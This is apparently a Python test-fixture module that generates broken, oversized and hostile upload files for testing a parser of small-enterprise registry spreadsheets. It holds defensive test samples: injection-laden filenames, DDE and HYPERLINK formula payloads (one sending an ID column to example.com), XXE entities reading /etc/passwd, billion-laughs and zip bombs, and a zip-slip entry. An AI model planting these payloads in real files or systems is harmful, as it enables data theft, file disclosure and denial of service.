"""Bad input: files that are not lists, lie about themselves, are broken, locked, or far too large.

``BAD`` names every one with what a careful reader does with it: ``refuse`` (a sentence that a person can act on,
nothing kept), ``empty`` (readable, but no row of data in it), ``read`` (its ``rows`` are read, without harm) or
``either`` (read or refused, in reasonable time and memory, without an unhandled error). All are small on disk but those
of many rows; the bombs are written as a stream. People and businesses in them are synthetic as everywhere here.
"""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Literal

import msoffcrypto
import openpyxl
import xlwt
from docx import Document
from msoffcrypto.format.ooxml import OOXMLFile
from tests.lists import raw

HEADER = ("No", "Nama Pemilik", "Nama Usaha", "NIK", "Alamat", "Kelurahan", "Kecamatan", "No HP", "Produk", "Karyawan")
PASSWORD = "anyaman-rotan"
MEGABYTE = 1024 * 1024

# Names that uploads have carried. Some cannot be a file's name on a disk: for the upload form, not for write functions.
HOSTILE_NAMES = (
    "../../../../etc/passwd.csv",
    "..\\..\\windows\\system32\\daftar.csv",
    "/var/lib/daftar.csv",
    "C:\\Users\\Dinas\\Documents\\daftar.csv",
    "daftar\u202exslx.csv",
    "daftar \U0001f9fa keranjang é – ñ.csv",
    "قائمة الحرفيين.csv",
    "名簿.csv",
    "<img src=x onerror=alert(1)>.csv",
    "'; DROP TABLE registry_enterprise; --.csv",
    "$(reboot) `id` ; & | .csv",
    "daftar\nSet-Cookie: a=b.csv",
    "daftar\x00.csv",
    "CON.csv",
    ".csv",
    "..csv",
    "-rf.csv",
    "daftar.csv.",
    "DAFTAR.CSV",
    "a" * 250 + ".csv",
    "daftar" + ".csv" * 60,
    "%2e%2e%2fdaftar.csv",
)
# Those of them that a Linux disk takes.
WRITABLE_NAMES = tuple(
    name for name in HOSTILE_NAMES if "/" not in name and "\x00" not in name and len(name.encode()) <= 255
)


def row(number: int) -> tuple[str, ...]:
    """An honest row, another for each number."""
    crafts = ("Batik", "Rotan", "Bordir", "Keramik", "Anyaman")
    return (
        str(number),
        f"Siti Contoh {number}",
        f"{crafts[number % 5]} Contoh {number}",
        f"367402{41 + number % 28:02d}{1 + number % 12:02d}{70 + number % 29:02d}0000",
        f"Jl. Contoh No. {number % 200 + 1} RT 01/RW 02",
        "Rengas",
        "Ciputat Timur",
        f"08120000{number % 10000:04d}",
        crafts[number % 5].lower(),
        str(number % 9 + 1),
    )


def _csv(path: Path, rows: list[tuple[str, ...]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    return path


def _xlsx(path: Path, rows: list[tuple[object, ...]]) -> Path:
    workbook = openpyxl.Workbook()
    for cells in rows:
        workbook.active.append(list(cells))
    workbook.save(path)
    return path


def _honest(count: int) -> list[tuple[str, ...]]:
    return [HEADER, *(row(number) for number in range(1, count + 1))]


# --- nothing in it ---------------------------------------------------------------------------------------------------


def empty_xlsx(folder: Path) -> Path:
    path = folder / "kosong.xlsx"
    path.write_bytes(b"")
    return path


def empty_csv(folder: Path) -> Path:
    path = folder / "kosong.csv"
    path.write_bytes(b"")
    return path


def blank_csv(folder: Path) -> Path:
    path = folder / "baris kosong.csv"
    path.write_bytes(b"\xef\xbb\xbf\r\n\r\n;;;;\r\n   \r\n")
    return path


def blank_workbook(folder: Path) -> Path:
    return _xlsx(folder / "lembar kosong.xlsx", [])


def header_only(folder: Path) -> Path:
    return _xlsx(folder / "hanya judul.xlsx", [("DATA IKM 2018",), (), HEADER])


def signatures_only(folder: Path) -> Path:
    return _xlsx(
        folder / "hanya tanda tangan.xlsx",
        [
            (None, None, None, "Tangerang Selatan, 12 Oktober 2018"),
            (None, "Mengetahui,", None, "Ketua"),
            (),
            (None, "Drs. H. SUPARDI, M.Si", None, "Hj. SRI MULYATI"),
            (None, "NIP. 19000000 199000 0 000"),
            ("JUMLAH", 0),
        ],
    )


# --- locked ----------------------------------------------------------------------------------------------------------


def encrypted_xlsx(folder: Path) -> Path:
    plain = BytesIO()
    workbook = openpyxl.Workbook()
    for cells in _honest(3):
        workbook.active.append(list(cells))
    workbook.save(plain)
    path = folder / "terkunci.xlsx"
    with path.open("wb") as stream:
        OOXMLFile(plain).encrypt(PASSWORD, stream)
    return path


def protected_xls(folder: Path) -> Path:
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("Data")
    for number, cells in enumerate(_honest(12)):
        for column, cell in enumerate(cells):
            sheet.write(number, column, cell)
    return raw.write_protected_xls(workbook, folder / "terkunci.xls", password=PASSWORD)


def encrypted_ods(folder: Path) -> Path:
    """As an office suite locks it: the manifest says how, the content is noise."""
    path = folder / "terkunci.ods"
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    name = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("mimetype", kind)
        package.writestr("content.xml", bytes((number * 167 + 13) % 256 for number in range(2048)))
        package.writestr(
            "META-INF/manifest.xml",
            f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{name}">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="9000">'
            '<manifest:encryption-data manifest:checksum-type="SHA1/1K" '
            'manifest:checksum="AAAAAAAAAAAAAAAAAAAAAAAAAAA=">'
            '<manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>'
            "</manifest:encryption-data></manifest:file-entry></manifest:manifest>",
        )
    return path


# --- too large -------------------------------------------------------------------------------------------------------


def _repeated(piece: str, total: int) -> Iterator[str]:
    """Pieces of about a megabyte that are together at least ``total`` bytes."""
    block = piece * (MEGABYTE // len(piece) + 1)
    for _ in range(total // len(block) + 1):
        yield block


def zip_bomb(folder: Path, *, inflated: int = 520 * MEGABYTE) -> Path:
    """A sheet of a few hundred kilobytes that is more than 500 MB of true rows when inflated."""
    return raw.write_package(folder / "bom.xlsx", _bomb_sheet(inflated), level=9)


def _bomb_sheet(inflated: int) -> Iterator[str]:
    yield f"{raw.SHEET_HEAD}<sheetData>{raw.rows(HEADER)}"
    yield from _repeated(f"<row>{raw.inline('A' * 2000)}</row>", inflated)
    yield "</sheetData></worksheet>"


def bomb_beside(folder: Path, *, inflated: int = 520 * MEGABYTE) -> Path:
    """One honest row, and beside the sheet a part of more than 500 MB that no reader needs."""
    path = folder / "bom di samping.xlsx"
    raw.write_package(path, raw.sheet(HEADER, row(1)))
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as package,
        package.open("xl/media/gambar1.xml", "w", force_zip64=True) as stream,
    ):
        for piece in _repeated("<t>AAAAAAAAAAAAAAAAAAAAAAAAAAAA</t>", inflated):
            stream.write(piece.encode())
    return path


def repeated_ods(folder: Path) -> Path:
    """A few hundred bytes which say: this row of a thousand filled cells, one million times."""
    path = folder / "ulang.ods"
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    base = "urn:oasis:names:tc:opendocument:xmlns:"
    cell = (
        '<table:table-cell office:value-type="string" table:number-columns-repeated="1000">'
        "<text:p>x</text:p></table:table-cell>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), kind)
        package.writestr(
            "content.xml",
            f'<?xml version="1.0"?><office:document-content xmlns:office="{base}office:1.0" '
            f'xmlns:table="{base}table:1.0" xmlns:text="{base}text:1.0" office:version="1.2">'
            '<office:body><office:spreadsheet><table:table table:name="A">'
            f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
            "</table:table></office:spreadsheet></office:body></office:document-content>",
        )
        package.writestr(
            "META-INF/manifest.xml",
            f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{base}manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
        )
    return path


def many_columns(folder: Path) -> Path:
    """Two hundred columns; the ten that matter stand among them."""
    extra = tuple(f"Pertanyaan {number}" for number in range(1, 191))
    rows = [(*HEADER[:5], *extra, *HEADER[5:])]
    rows += [(*row(n)[:5], *(("ya", "tidak", "")[(n + k) % 3] for k in range(190)), *row(n)[5:]) for n in range(1, 6)]
    return _xlsx(folder / "200 kolom.xlsx", rows)


def widest_sheet(folder: Path) -> Path:
    """Every one of the 16,384 columns that a sheet can have is filled, in three rows."""
    wide = [f"k{number % 7}" for number in range(16384 - len(HEADER))]
    return raw.write_package(folder / "16384 kolom.xlsx", raw.sheet(*([*cells, *wide] for cells in _honest(2))))


def many_rows_xlsx(folder: Path, *, rows: int = 100_000) -> Path:
    return raw.write_package(folder / "100000 baris.xlsx", _many(rows))


def _many(rows: int) -> Iterator[str]:
    yield f"{raw.SHEET_HEAD}<sheetData>{raw.rows(HEADER)}"
    for number in range(1, rows + 1):
        yield raw.rows(row(number), first=number + 1)
    yield "</sheetData></worksheet>"


def many_rows_csv(folder: Path, *, rows: int = 100_000) -> Path:
    return _csv(folder / "100000 baris.csv", _honest(rows))


def lying_dimension(folder: Path) -> Path:
    """Claims A1:XFD1048576; two rows are there."""
    head = f'{raw.SHEET_HEAD}<dimension ref="A1:XFD1048576"/>'
    return raw.write_package(folder / "dimensi.xlsx", raw.sheet(*_honest(2), head=head))


def far_cell(folder: Path) -> Path:
    """Two honest rows, and one forgotten full stop in the last cell of the sheet, XFD1048576."""
    last = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>.</t></is></c></row>'
    return raw.write_package(folder / "titik di ujung.xlsx", raw.sheet(*_honest(2), more=last))


def huge_field(folder: Path, *, size: int = 5 * MEGABYTE) -> Path:
    rows = _honest(3)
    rows[2] = (*rows[2][:4], "Jl. Panjang " * (size // 12 + 1), *rows[2][5:])
    return _csv(folder / "isian 5 MB.csv", rows)


# --- something else --------------------------------------------------------------------------------------------------

JPEG = (
    bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300")
    + bytes([16] * 64)
    + bytes(range(256)) * 8
    + b"\xff\xd9"
)


def _bytes(folder: Path, name: str, content: bytes) -> Path:
    path = folder / name
    path.write_bytes(content)
    return path


def renamed_jpg(folder: Path) -> Path:
    return _bytes(folder, "foto peserta.xlsx", JPEG)


def jpg_as_csv(folder: Path) -> Path:
    return _bytes(folder, "foto peserta.csv", JPEG)


def renamed_pdf(folder: Path) -> Path:
    return _bytes(
        folder,
        "undangan.xls",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n",
    )


def renamed_docx(folder: Path) -> Path:
    path = folder / "surat.xlsx"
    document = Document()
    document.add_paragraph("Daftar peserta terlampir.")
    with path.open("wb") as stream:
        document.save(stream)
    return path


def plain_zip(folder: Path) -> Path:
    path = folder / "lampiran.xlsx"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("daftar.txt", "1. Siti Contoh\n")
        package.writestr("../../keluar.txt", "tidak boleh ditulis")
    return path


def numbers_document(folder: Path) -> Path:
    path = folder / "daftar.numbers"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("Index/Document.iwa", bytes(range(256)) * 4)
        package.writestr("Metadata/Properties.plist", b"bplist00")
    return path


def sign_in_page(folder: Path) -> Path:
    """What a web system hands out under the list's name when the session has ended."""
    return _bytes(
        folder,
        "laporan.xls",
        b"<!DOCTYPE html><html><head><title>Masuk</title></head><body><form method=post>Sesi Anda telah berakhir. "
        b"<input name=u><input name=p type=password></form><script>location='/masuk'</script></body></html>",
    )


# --- broken ----------------------------------------------------------------------------------------------------------


def truncated_xlsx(folder: Path) -> Path:
    """Half an upload: the end of the file, with its table of contents, never came."""
    whole = _xlsx(folder / "setengah.xlsx", _honest(300))
    content = whole.read_bytes()
    whole.write_bytes(content[: len(content) * 6 // 10])
    return whole


def truncated_xls(folder: Path) -> Path:
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("Data")
    for number, cells in enumerate(_honest(200)):
        for column, cell in enumerate(cells):
            sheet.write(number, column, cell)
    path = folder / "setengah.xls"
    workbook.save(str(path))
    content = path.read_bytes()
    path.write_bytes(content[: len(content) // 2])
    return path


def broken_xml(folder: Path) -> Path:
    pieces = [f"{raw.SHEET_HEAD}<sheetData>", raw.rows(HEADER), "<row><c><v>1</row>"]
    return raw.write_package(folder / "rusak.xlsx", pieces)


def mixed_encoding(folder: Path) -> Path:
    """Pasted together from three sources: UTF-8, cp1252, and bytes that are neither."""
    lines = [",".join(cells).encode() for cells in _honest(4)]
    lines[2] = lines[2].replace(b"Contoh", "Café".encode("cp1252"))
    lines[3] = lines[3].replace(b"Contoh", "Café".encode())
    lines[4] = lines[4].replace(b"Contoh", b"Caf\x81\xfe\xff\x9d")
    return _bytes(folder, "sandi campur.csv", b"\r\n".join(lines) + b"\r\n")


def utf16_without_mark(folder: Path) -> Path:
    text = "\r\n".join("\t".join(cells) for cells in _honest(5))
    return _bytes(folder, "tanpa tanda.csv", text.encode("utf-16-le"))


def utf16_odd(folder: Path) -> Path:
    """UTF-16 that was cut in the middle of a character."""
    text = "\r\n".join("\t".join(cells) for cells in _honest(5))
    return _bytes(folder, "ganjil.csv", text.encode("utf-16")[:-1])


def nul_bytes(folder: Path) -> Path:
    text = "\r\n".join(",".join(cells) for cells in _honest(4)).replace("Contoh 2", "Con\x00toh 2") + "\x00\x00"
    return _bytes(folder, "nul.csv", text.encode())


def unbalanced_quotes(folder: Path) -> Path:
    """A quotation mark is opened in the second of forty rows and never closed."""
    lines = [",".join(cells) for cells in _honest(40)]
    lines[2] = lines[2].replace("Siti", '"Siti')
    return _bytes(folder, "kutip.csv", "\n".join(lines).encode())


def ragged(folder: Path) -> Path:
    """Commas inside unquoted addresses: rows of nine to thirteen fields under a header of ten."""
    lines = [",".join(cells) for cells in _honest(6)]
    lines[3] = lines[3].replace(" RT 01", ", RT 01, Blok B")
    lines[5] = lines[5].rsplit(",", 1)[0]
    return _bytes(folder, "koma.csv", "\n".join(lines).encode())


def duplicate_headers(folder: Path) -> Path:
    rows = [tuple("Nama" if cell.startswith("Nama") else cell for cell in HEADER), *_honest(4)[1:]]
    return _xlsx(folder / "judul kembar.xlsx", [(*rows[0], "No HP", "Nama"), *((*cells, "", "") for cells in rows[1:])])


# --- dangerous -------------------------------------------------------------------------------------------------------


def formulas(folder: Path) -> Path:
    """Formulas that call programs, send data away or read another file, where names and products should stand."""
    rows: list[tuple[object, ...]] = list(_honest(4))
    rows[1] = ("1", "=cmd|' /C calc'!A0", *rows[1][2:])
    rows[2] = (*rows[2][:2], '=HYPERLINK("http://example.com/?x="&D2,"Batik Contoh")', *rows[2][3:])
    rows[3] = (*rows[3][:8], "='[daftar lain.xlsx]Sheet1'!A1", "=1+1")
    rows[4] = (*rows[4][:8], "@SUM(1+1)*cmd|' /C calc'!A0", "=2*2")
    return _xlsx(folder / "rumus.xlsx", rows)


def formulas_csv(folder: Path) -> Path:
    """The same as text: harmless here, dangerous when it is exported again."""
    rows = _honest(4)
    rows[1] = (rows[1][0], "=cmd|' /C calc'!A0", *rows[1][2:])
    rows[2] = (*rows[2][:2], '=HYPERLINK("http://example.com/?x="&D2,"klik")', *rows[2][3:])
    rows[3] = (*rows[3][:8], "-2+3+cmd|' /C calc'!D2", rows[3][9])
    rows[4] = (*rows[4][:8], "\t@SUM(1+1)", rows[4][9])
    return _csv(folder / "rumus.csv", rows)


def external_links(folder: Path) -> Path:
    """A sheet whose relations point to a remote workbook and a local secret."""
    relations = raw.WORKBOOK_RELATIONS.replace(
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{raw.OFFICE}/externalLinkPath" Target="file:///etc/passwd" '
        'TargetMode="External"/>'
        f'<Relationship Id="rId8" Type="{raw.OFFICE}/attachedTemplate" Target="http://example.com/x.dotm" '
        'TargetMode="External"/></Relationships>',
    )
    return raw.write_package(
        folder / "tautan luar.xlsx", raw.sheet(*_honest(2)), parts={"xl/_rels/workbook.xml.rels": relations}
    )


def xml_entity(folder: Path) -> Path:
    """An entity that names a local file, used as an owner's name."""
    head = raw.SHEET_HEAD.replace("?><", '?><!DOCTYPE x [<!ENTITY rahasia SYSTEM "file:///etc/passwd">]><')
    stolen = ("1", "&rahasia;", *row(1)[2:])
    return raw.write_package(folder / "entitas.xlsx", raw.sheet(HEADER, stolen, head=head))


def billion_laughs(folder: Path) -> Path:
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    shared = raw.SHARED_STRINGS.replace("?><", f'?><!DOCTYPE x [<!ENTITY a0 "tawa">{levels}]><').replace(
        "</sst>", "<si><t>&a9;</t></si></sst>"
    )
    cell = '<row r="2"><c t="s"><v>0</v></c></row>'
    return raw.write_package(folder / "tawa.xlsx", raw.sheet(HEADER, more=cell), parts={"xl/sharedStrings.xml": shared})


# --- names -----------------------------------------------------------------------------------------------------------


def hostile_names(folder: Path) -> list[Path]:
    """The same honest list of two rows under each name that a disk takes."""
    return [_csv(folder / name, _honest(2)) for name in WRITABLE_NAMES]


@dataclass(frozen=True, slots=True)
class Bad:
    """``write(folder)`` gives the path; ``must`` and ``rows`` say what a careful reader does with it."""

    write: Callable[[Path], Path]
    must: Literal["refuse", "empty", "read", "either"]
    rows: int = 0


BAD: dict[str, Bad] = {
    "empty xlsx": Bad(empty_xlsx, "refuse"),
    "empty csv": Bad(empty_csv, "refuse"),
    "blank csv": Bad(blank_csv, "empty"),
    "blank workbook": Bad(blank_workbook, "empty"),
    "header only": Bad(header_only, "empty"),
    "signatures only": Bad(signatures_only, "empty"),
    "encrypted xlsx": Bad(encrypted_xlsx, "refuse"),
    "protected xls": Bad(protected_xls, "refuse"),
    "encrypted ods": Bad(encrypted_ods, "refuse"),
    "zip bomb": Bad(zip_bomb, "refuse"),
    "bomb beside": Bad(bomb_beside, "either", 1),
    "repeated ods": Bad(repeated_ods, "refuse"),
    "200 columns": Bad(many_columns, "read", 5),
    "16384 columns": Bad(widest_sheet, "either", 2),
    "100000 rows xlsx": Bad(many_rows_xlsx, "either", 100_000),
    "100000 rows csv": Bad(many_rows_csv, "either", 100_000),
    "lying dimension": Bad(lying_dimension, "read", 2),
    "far cell": Bad(far_cell, "either", 2),
    "huge field": Bad(huge_field, "either", 3),
    "renamed jpg": Bad(renamed_jpg, "refuse"),
    "jpg as csv": Bad(jpg_as_csv, "refuse"),
    "renamed pdf": Bad(renamed_pdf, "refuse"),
    "renamed docx": Bad(renamed_docx, "refuse"),
    "plain zip": Bad(plain_zip, "refuse"),
    "numbers document": Bad(numbers_document, "refuse"),
    "sign-in page": Bad(sign_in_page, "refuse"),
    "truncated xlsx": Bad(truncated_xlsx, "refuse"),
    "truncated xls": Bad(truncated_xls, "refuse"),
    "broken xml": Bad(broken_xml, "refuse"),
    "mixed encoding": Bad(mixed_encoding, "either", 4),
    "utf-16 without mark": Bad(utf16_without_mark, "either", 5),
    "utf-16 odd": Bad(utf16_odd, "either", 5),
    "nul bytes": Bad(nul_bytes, "either", 4),
    "unbalanced quotes": Bad(unbalanced_quotes, "either", 40),
    "ragged": Bad(ragged, "either", 6),
    "duplicate headers": Bad(duplicate_headers, "read", 4),
    "formulas": Bad(formulas, "either", 4),
    "formulas csv": Bad(formulas_csv, "read", 4),
    "external links": Bad(external_links, "either", 2),
    "xml entity": Bad(xml_entity, "either", 1),
    "billion laughs": Bad(billion_laughs, "either"),
}


def is_locked(path: Path) -> bool:
    """Whether an Office file is encrypted, by a library that is not its writer."""
    with path.open("rb") as stream:
        return bool(msoffcrypto.OfficeFile(stream).is_encrypted())
